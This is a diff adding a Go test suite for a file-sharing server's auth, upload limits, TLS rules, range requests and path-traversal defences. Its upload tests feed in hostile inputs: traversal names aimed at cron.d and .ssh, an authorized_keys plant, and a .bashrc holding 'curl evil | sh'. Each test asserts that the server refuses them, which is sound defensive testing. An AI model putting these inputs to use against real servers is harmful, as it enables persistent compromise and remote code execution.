@@ -0,0 +1,541 @@
+package server
+
+import (
+	"bytes"
+	"crypto/tls"
+	"encoding/json"
+	"mime/multipart"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"testing"
+	"testing/fstest"
+	"time"
+)
+
+// newTestHandler returns a FileHandler sharing a fresh temporary folder,
+// protected by password unless it is empty
+func newTestHandler(t *testing.T, password string) *FileHandler {
+	t.Helper()
+	fh := &FileHandler{
+		rootDir:      t.TempDir(),
+		template:     loadTemplate(""),
+		auth:         newPasswordChecker(password, ""),
+		tokens:       newAPITokens(),
+		logs:         newLogRing(),
+		maxUpload:    defaultMaxUpload,
+		shutdown:     make(chan struct{}),
+		shareLinks:   newShareLinks(),
+		startedAt:    time.Now(),
+		live:         newLiveWatchers(),
+		uploads:      newChunkedUploads(),
+		progress:     newUploadProgress(),
+		clipboard:    &clipboard{},
+		dirSizeCache: newDirSizeCache(),
+	}
+	fh.logins = newLoginLimiter(fh.clientIP)
+	return fh
+}
+
+// writeFile creates the file at the slash-separated rel inside the share
+func writeFile(t *testing.T, fh *FileHandler, rel, content string) string {
+	t.Helper()
+	p := filepath.Join(fh.rootDir, filepath.FromSlash(rel))
+	if err := os.MkdirAll(filepath.Dir(p), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(p, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	return p
+}
+
+// protectedHandler wraps fh in the auth middleware as StartServer does
+func protectedHandler(fh *FileHandler) http.Handler {
+	return applyAuthMiddleware(fh, fh.auth, fh.accessToken, fh.tokens, fh.logins, fh.branding)
+}
+
+// do sends a request without credentials to h and returns the response
+func do(h http.Handler, method, target string) *httptest.ResponseRecorder {
+	rec := httptest.NewRecorder()
+	h.ServeHTTP(rec, httptest.NewRequest(method, target, nil))
+	return rec
+}
+
+func TestReactUIProtectsAPI(t *testing.T) {
+	fh := newTestHandler(t, "hunter2")
+	writeFile(t, fh, "docs/secret.txt", "top secret")
+	writeFile(t, fh, "photo.png", "not really a png")
+	ui := fstest.MapFS{"index.html": {Data: []byte("<div id=root></div>")}}
+	h := fh.reactUIHandler(ui, protectedHandler(fh))
+
+	for _, target := range []string{
+		"/api/zip?paths=/docs/secret.txt",
+		"/api/files?path=/docs",
+		"/api/highlight?path=/docs/secret.txt",
+		"/api/thumbnail?path=/photo.png",
+		"/api/montage?path=/",
+		"/api/report",
+		"/api/all",
+	} {
+		if rec := do(h, http.MethodGet, target); rec.Code != http.StatusUnauthorized {
+			t.Errorf("GET %s without a login = %d, want 401", target, rec.Code)
+		}
+	}
+	if rec := do(h, http.MethodPost, "/api/maintenance"); rec.Code != http.StatusUnauthorized {
+		t.Errorf("POST /api/maintenance without a login = %d, want 401", rec.Code)
+	}
+
+	// The app itself and the login state stay reachable
+	if rec := do(h, http.MethodGet, "/some/route"); rec.Code != http.StatusOK {
+		t.Errorf("GET /some/route = %d, want the app", rec.Code)
+	}
+	if rec := do(h, http.MethodGet, "/api/auth/check"); rec.Code != http.StatusOK {
+		t.Errorf("GET /api/auth/check = %d, want 200", rec.Code)
+	}
+
+	req := httptest.NewRequest(http.MethodGet, "/api/zip?paths=/docs/secret.txt", nil)
+	req.SetBasicAuth("", "hunter2")
+	rec := httptest.NewRecorder()
+	h.ServeHTTP(rec, req)
+	if rec.Code != http.StatusOK {
+		t.Errorf("GET /api/zip with the password = %d, want 200", rec.Code)
+	}
+}
+
+// uploadRequest builds a POST /upload of files (name to content) with the
+// extra form fields
+func uploadRequest(t *testing.T, fields map[string]string, files map[string]string) *http.Request {
+	t.Helper()
+	var parts []uploadPart
+	for name, content := range files {
+		parts = append(parts, uploadPart{name, content})
+	}
+	return uploadPartsRequest(t, fields, parts)
+}
+
+// uploadPart is one file of an uploadPartsRequest
+type uploadPart struct {
+	name, content string
+}
+
+// uploadPartsRequest is uploadRequest for batches that repeat a name
+func uploadPartsRequest(t *testing.T, fields map[string]string, parts []uploadPart) *http.Request {
+	t.Helper()
+	var body bytes.Buffer
+	mw := multipart.NewWriter(&body)
+	for k, v := range fields {
+		mw.WriteField(k, v)
+	}
+	for _, part := range parts {
+		fw, err := mw.CreateFormFile("files", part.name)
+		if err != nil {
+			t.Fatal(err)
+		}
+		fw.Write([]byte(part.content))
+	}
+	mw.Close()
+	req := httptest.NewRequest(http.MethodPost, "/upload", &body)
+	req.Header.Set("Content-Type", mw.FormDataContentType())
+	req.Header.Set("Accept", "application/json")
+	return req
+}
+
+func TestUploadOverwriteReplacesSymlink(t *testing.T) {
+	fh := newTestHandler(t, "")
+	outside := filepath.Join(t.TempDir(), "outside.txt")
+	if err := os.WriteFile(outside, []byte("untouched"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	link := filepath.Join(fh.rootDir, "report.txt")
+	if err := os.Symlink(outside, link); err != nil {
+		t.Skip("symlinks not supported:", err)
+	}
+
+	rec := httptest.NewRecorder()
+	fh.ServeHTTP(rec, uploadRequest(t, map[string]string{"overwrite": "1"}, map[string]string{"report.txt": "uploaded"}))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("upload = %d: %s", rec.Code, rec.Body)
+	}
+	if data, _ := os.ReadFile(outside); string(data) != "untouched" {
+		t.Errorf("the upload wrote through the symlink: outside file is %q", data)
+	}
+	info, err := os.Lstat(link)
+	if err != nil || info.Mode()&os.ModeSymlink != 0 {
+		t.Fatalf("report.txt is still a symlink (%v)", err)
+	}
+	if data, _ := os.ReadFile(link); string(data) != "uploaded" {
+		t.Errorf("report.txt = %q, want the upload", data)
+	}
+}
+
+func TestUploadBodyIsCapped(t *testing.T) {
+	fh := newTestHandler(t, "")
+	fh.maxUpload = 10
+	big := string(make([]byte, uploadFormOverhead+maxUploadBatch*10+1))
+
+	rec := httptest.NewRecorder()
+	fh.ServeHTTP(rec, uploadRequest(t, nil, map[string]string{"big.bin": big}))
+	if rec.Code != http.StatusRequestEntityTooLarge {
+		t.Errorf("oversized upload with a Content-Length = %d, want 413", rec.Code)
+	}
+
+	// Without a Content-Length the body is cut off while it is parsed
+	req := uploadRequest(t, nil, map[string]string{"big.bin": big})
+	req.ContentLength = -1
+	rec = httptest.NewRecorder()
+	fh.ServeHTTP(rec, req)
+	if rec.Code != http.StatusRequestEntityTooLarge {
+		t.Errorf("oversized chunked upload = %d, want 413", rec.Code)
+	}
+
+	files := make(map[string]string)
+	for i := 0; i <= maxUploadBatch; i++ {
+		files[strconv.Itoa(i)+".txt"] = "x"
+	}
+	rec = httptest.NewRecorder()
+	fh.ServeHTTP(rec, uploadRequest(t, nil, files))
+	if rec.Code != http.StatusRequestEntityTooLarge {
+		t.Errorf("upload of %d files = %d, want 413", len(files), rec.Code)
+	}
+	if entries, _ := os.ReadDir(fh.rootDir); len(entries) != 0 {
+		t.Errorf("refused uploads left %d files behind", len(entries))
+	}
+}
+
+func TestUploadsRequireTLS(t *testing.T) {
+	fh := newTestHandler(t, "")
+	fh.uploadsTLS = true
+
+	rec := httptest.NewRecorder()
+	fh.ServeHTTP(rec, uploadRequest(t, nil, map[string]string{"plain.txt": "x"}))
+	if rec.Code != http.StatusForbidden {
+		t.Errorf("plain HTTP upload = %d, want 403", rec.Code)
+	}
+	if !strings.Contains(rec.Body.String(), "https://") {
+		t.Errorf("refusal %q doesn't point to the https URL", rec.Body)
+	}
+
+	// A forwarded proto only counts with --trust-proxy
+	req := uploadRequest(t, nil, map[string]string{"forwarded.txt": "x"})
+	req.Header.Set("X-Forwarded-Proto", "https")
+	rec = httptest.NewRecorder()
+	fh.ServeHTTP(rec, req)
+	if rec.Code != http.StatusForbidden {
+		t.Errorf("upload claiming X-Forwarded-Proto without --trust-proxy = %d, want 403", rec.Code)
+	}
+
+	req = uploadRequest(t, nil, map[string]string{"tls.txt": "x"})
+	req.TLS = &tls.ConnectionState{}
+	rec = httptest.NewRecorder()
+	fh.ServeHTTP(rec, req)
+	if rec.Code != http.StatusOK {
+		t.Errorf("HTTPS upload = %d, want 200: %s", rec.Code, rec.Body)
+	}
+
+	fh.trustProxy = true
+	req = uploadRequest(t, nil, map[string]string{"proxied.txt": "x"})
+	req.Header.Set("X-Forwarded-Proto", "https")
+	rec = httptest.NewRecorder()
+	fh.ServeHTTP(rec, req)
+	if rec.Code != http.StatusOK {
+		t.Errorf("upload through a trusted TLS proxy = %d, want 200: %s", rec.Code, rec.Body)
+	}
+
+	for name, want := range map[string]bool{"plain.txt": false, "forwarded.txt": false, "tls.txt": true, "proxied.txt": true} {
+		if _, err := os.Stat(filepath.Join(fh.rootDir, name)); (err == nil) != want {
+			t.Errorf("%s written = %v, want %v", name, err == nil, want)
+		}
+	}
+}
+
+func TestUploadRenamesDuplicatesInBatch(t *testing.T) {
+	fh := newTestHandler(t, "")
+	writeFile(t, fh, "IMG_0001.jpg", "already here")
+
+	for _, overwrite := range []string{"", "1"} {
+		req := uploadPartsRequest(t, map[string]string{"overwrite": overwrite}, []uploadPart{
+			{"IMG_0001.jpg", "first"},
+			{"IMG_0001.jpg", "second"},
+			{"IMG_0001.jpg", "third"},
+		})
+		rec := httptest.NewRecorder()
+		fh.ServeHTTP(rec, req)
+		var result uploadResult
+		if err := json.Unmarshal(rec.Body.Bytes(), &result); err != nil || rec.Code != http.StatusOK {
+			t.Fatalf("overwrite=%q: upload = %d: %s", overwrite, rec.Code, rec.Body)
+		}
+
+		// Without overwrite the file on disk keeps its name too
+		want := map[string]string{"IMG_0001 (1).jpg": "first", "IMG_0001 (2).jpg": "second", "IMG_0001 (3).jpg": "third"}
+		if overwrite == "1" {
+			want = map[string]string{"IMG_0001.jpg": "first", "IMG_0001 (1).jpg": "second", "IMG_0001 (2).jpg": "third"}
+		}
+		if result.Uploaded != 3 || len(result.Files) != 3 {
+			t.Fatalf("overwrite=%q: result = %+v, want 3 files stored", overwrite, result)
+		}
+		for _, f := range result.Files {
+			content, ok := want[f.StoredAs]
+			if !ok {
+				t.Errorf("overwrite=%q: stored as %q, want one of %v", overwrite, f.StoredAs, want)
+				continue
+			}
+			if data, _ := os.ReadFile(filepath.Join(fh.rootDir, f.StoredAs)); string(data) != content {
+				t.Errorf("overwrite=%q: %s = %q, want %q", overwrite, f.StoredAs, data, content)
+			}
+		}
+	}
+}
+
+func TestContentDisposition(t *testing.T) {
+	fh := newTestHandler(t, "")
+	for _, name := range []string{"doc.pdf", "notes.txt", "photo.png", "page.html", "bundle.zip"} {
+		writeFile(t, fh, name, "content")
+	}
+
+	for _, c := range []struct {
+		target, want string
+	}{
+		{"/doc.pdf", `inline; filename="doc.pdf"`},
+		{"/notes.txt", `inline; filename="notes.txt"`},
+		{"/photo.png", `inline; filename="photo.png"`},
+		{"/doc.pdf?download=1", `attachment; filename="doc.pdf"`},
+		{"/notes.txt?download=1", `attachment; filename="notes.txt"`},
+		{"/bundle.zip?download=1", `attachment; filename="bundle.zip"`},
+		// Types outside the viewable list are left to the browser
+		{"/page.html", ""},
+		{"/bundle.zip", ""},
+	} {
+		rec := do(fh, http.MethodGet, c.target)
+		if rec.Code != http.StatusOK {
+			t.Errorf("GET %s = %d", c.target, rec.Code)
+			continue
+		}
+		if got := rec.Header().Get("Content-Disposition"); got != c.want {
+			t.Errorf("GET %s: Content-Disposition = %q, want %q", c.target, got, c.want)
+		}
+	}
+}
+
+func TestUploadFileNameCannotEscape(t *testing.T) {
+	fh := newTestHandler(t, "")
+	writeFile(t, fh, "inbox/keep.txt", "x")
+
+	rec := httptest.NewRecorder()
+	fh.ServeHTTP(rec, uploadPartsRequest(t, map[string]string{"directory": "/inbox"}, []uploadPart{
+		{"../../escape.txt", "x"},
+		{`..\..\windows.txt`, "x"},
+		{"/etc/absolute.txt", "x"},
+		{"..", "x"},
+	}))
+	if rec.Code != http.StatusOK {
+		t.Fatalf("upload = %d: %s", rec.Code, rec.Body)
+	}
+
+	// Only the base names remain, all inside the target folder
+	entries, _ := os.ReadDir(filepath.Join(fh.rootDir, "inbox"))
+	var names []string
+	for _, e := range entries {
+		names = append(names, e.Name())
+	}
+	if got := strings.Join(names, " "); got != "absolute.txt escape.txt keep.txt windows.txt" {
+		t.Errorf("inbox holds %q", got)
+	}
+	if entries, _ := os.ReadDir(fh.rootDir); len(entries) != 1 {
+		t.Errorf("share root holds %d entries, want only inbox", len(entries))
+	}
+	if entries, _ := os.ReadDir(filepath.Dir(fh.rootDir)); len(entries) != 1 {
+		t.Errorf("%d entries appeared next to the share", len(entries)-1)
+	}
+}
+
+func TestUploadFileName(t *testing.T) {
+	fh := newTestHandler(t, "")
+	for name, want := range map[string]string{
+		"photo.jpg":           "photo.jpg",
+		"../../etc/cron.d/x":  "x",
+		`C:\Users\me\doc.pdf`: "doc.pdf",
+		`..\..\x`:             "x",
+		"dir/":                "dir",
+		"..":                  "",
+		".":                   "",
+		"/":                   "",
+		"a\x00b":              "",
+		".bashrc":             "",
+		"../.ssh/id_rsa.pub":  "id_rsa.pub",
+	} {
+		got, ok := fh.uploadFileName(name)
+		if ok != (want != "") || got != want {
+			t.Errorf("uploadFileName(%q) = %q, %v; want %q", name, got, ok, want)
+		}
+	}
+}
+
+func TestRangeRequests(t *testing.T) {
+	fh := newTestHandler(t, "")
+	content := strings.Repeat("0123456789abcdef", 200) // 3200 bytes
+	writeFile(t, fh, "clip.mp4", content)
+
+	for _, target := range []string{"/clip.mp4", "/clip.mp4?download=1"} {
+		req := httptest.NewRequest(http.MethodGet, target, nil)
+		req.Header.Set("Range", "bytes=0-1023")
+		rec := httptest.NewRecorder()
+		fh.ServeHTTP(rec, req)
+
+		if rec.Code != http.StatusPartialContent {
+			t.Errorf("GET %s with a Range = %d, want 206", target, rec.Code)
+			continue
+		}
+		if got := rec.Header().Get("Content-Range"); got != "bytes 0-1023/3200" {
+			t.Errorf("GET %s: Content-Range = %q", target, got)
+		}
+		if got := rec.Header().Get("Accept-Ranges"); got != "bytes" {
+			t.Errorf("GET %s: Accept-Ranges = %q, want bytes", target, got)
+		}
+		if rec.Body.String() != content[:1024] {
+			t.Errorf("GET %s: body is %d bytes, want the first 1024", target, rec.Body.Len())
+		}
+	}
+
+	// Resuming from the middle, as a download manager would
+	req := httptest.NewRequest(http.MethodGet, "/clip.mp4?download=1", nil)
+	req.Header.Set("Range", "bytes=3000-")
+	rec := httptest.NewRecorder()
+	fh.ServeHTTP(rec, req)
+	if rec.Code != http.StatusPartialContent || rec.Body.String() != content[3000:] {
+		t.Errorf("resumed download = %d with %d bytes, want 206 with 200", rec.Code, rec.Body.Len())
+	}
+}
+
+func TestAuthCheck(t *testing.T) {
+	protected := newTestHandler(t, "hunter2")
+	open := newTestHandler(t, "")
+
+	token, _, err := protected.tokens.issue("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	sessionRec := httptest.NewRecorder()
+	if err := protected.tokens.setSession(sessionRec, ""); err != nil {
+		t.Fatal(err)
+	}
+	session := sessionRec.Result().Cookies()[0]
+	otherToken, _, _ := newAPITokens().issue("")
+
+	for _, c := range []struct {
+		name      string
+		fh        *FileHandler
+		authorize func(*http.Request)
+		want      bool
+	}{
+		{"no password", open, func(*http.Request) {}, true},
+		{"no password, stray credentials", open, func(r *http.Request) { r.SetBasicAuth("", "wrong") }, true},
+		{"nothing sent", protected, func(*http.Request) {}, false},
+		{"basic auth", protected, func(r *http.Request) { r.SetBasicAuth("", "hunter2") }, true},
+		{"wrong basic auth", protected, func(r *http.Request) { r.SetBasicAuth("", "wrong") }, false},
+		{"bearer token", protected, func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+token) }, true},
+		{"bearer token from another server", protected, func(r *http.Request) { r.Header.Set("Authorization", "Bearer "+otherToken) }, false},
+		{"garbage bearer token", protected, func(r *http.Request) { r.Header.Set("Authorization", "Bearer nope") }, false},
+		{"session cookie", protected, func(r *http.Request) { r.AddCookie(session) }, true},
+		{"forged session cookie", protected, func(r *http.Request) {
+			r.AddCookie(&http.Cookie{Name: sessionCookie, Value: otherToken})
+		}, false},
+	} {
+		req := httptest.NewRequest(http.MethodGet, "/api/auth/check", nil)
+		c.authorize(req)
+		rec := httptest.NewRecorder()
+		protectedHandler(c.fh).ServeHTTP(rec, req)
+
+		var body struct {
+			Authenticated bool `json:"authenticated"`
+		}
+		if err := json.Unmarshal(rec.Body.Bytes(), &body); err != nil || rec.Code != http.StatusOK {
+			t.Errorf("%s: /api/auth/check = %d: %s", c.name, rec.Code, rec.Body)
+			continue
+		}
+		if body.Authenticated != c.want {
+			t.Errorf("%s: authenticated = %v, want %v", c.name, body.Authenticated, c.want)
+		}
+		// The check agrees with what the rest of the API lets through
+		req = httptest.NewRequest(http.MethodGet, "/api/files?path=/", nil)
+		c.authorize(req)
+		rec = httptest.NewRecorder()
+		protectedHandler(c.fh).ServeHTTP(rec, req)
+		if got := rec.Code == http.StatusOK; got != c.want {
+			t.Errorf("%s: /api/files = %d, but the check said %v", c.name, rec.Code, c.want)
+		}
+	}
+}
+
+func TestUploadsAvoidHiddenPaths(t *testing.T) {
+	fh := newTestHandler(t, "")
+	writeFile(t, fh, ".ssh/known_hosts", "x")
+
+	rec := httptest.NewRecorder()
+	fh.ServeHTTP(rec, uploadRequest(t, map[string]string{"directory": "/.ssh"}, map[string]string{"authorized_keys": "ssh-ed25519 AAAA"}))
+	if rec.Code != http.StatusForbidden {
+		t.Errorf("upload into /.ssh = %d, want 403", rec.Code)
+	}
+	rec = httptest.NewRecorder()
+	fh.ServeHTTP(rec, uploadRequest(t, map[string]string{"directory": "/.ssh/new"}, map[string]string{"x.txt": "x"}))
+	if rec.Code != http.StatusForbidden {
+		t.Errorf("upload below /.ssh = %d, want 403", rec.Code)
+	}
+
+	rec = httptest.NewRecorder()
+	fh.ServeHTTP(rec, uploadRequest(t, nil, map[string]string{".bashrc": "curl evil | sh"}))
+	var result uploadResult
+	if err := json.Unmarshal(rec.Body.Bytes(), &result); err != nil || result.Uploaded != 0 || len(result.Failed) != 1 {
+		t.Errorf("upload of .bashrc = %d: %s, want it refused", rec.Code, rec.Body)
+	}
+
+	// The API upload paths refuse them too
+	rec = httptest.NewRecorder()
+	fh.ServeHTTP(rec, httptest.NewRequest(http.MethodPost, "/api/upload/init", strings.NewReader(`{"name":"x.txt","size":1,"directory":"/.ssh"}`)))
+	if rec.Code != http.StatusForbidden {
+		t.Errorf("chunked upload into /.ssh = %d, want 403", rec.Code)
+	}
+	rec = httptest.NewRecorder()
+	fh.ServeHTTP(rec, httptest.NewRequest(http.MethodPut, "/api/upload/.profile", strings.NewReader("x")))
+	if rec.Code != http.StatusBadRequest {
+		t.Errorf("streamed upload of .profile = %d, want 400", rec.Code)
+	}
+
+	for _, name := range []string{".ssh/authorized_keys", ".ssh/new", ".bashrc", ".profile"} {
+		if _, err := os.Stat(filepath.Join(fh.rootDir, filepath.FromSlash(name))); err == nil {
+			t.Errorf("%s was written", name)
+		}
+	}
+}
+
+func TestCollapseDirsStopsAtHiddenChildren(t *testing.T) {
+	fh := newTestHandler(t, "")
+	fh.collapseDirs = true
+	writeFile(t, fh, "a/b/c/file.txt", "x")
+	writeFile(t, fh, "secret/.git/config", "x")
+	outside := t.TempDir()
+	if err := os.MkdirAll(filepath.Join(fh.rootDir, "linked"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(outside, filepath.Join(fh.rootDir, "linked", "out")); err != nil {
+		t.Skip("symlinks not supported:", err)
+	}
+
+	files, err := fh.readListing(fh.rootDir, "/")
+	if err != nil {
+		t.Fatal(err)
+	}
+	got := map[string]string{}
+	for _, f := range files {
+		got[f.Name] = f.Path
+	}
+	want := map[string]string{"a/b/c": "/a/b/c", "secret": "/secret", "linked": "/linked"}
+	for name, path := range want {
+		if got[name] != path {
+			t.Errorf("listing = %v, want %s -> %s", got, name, path)
+		}
+	}
+}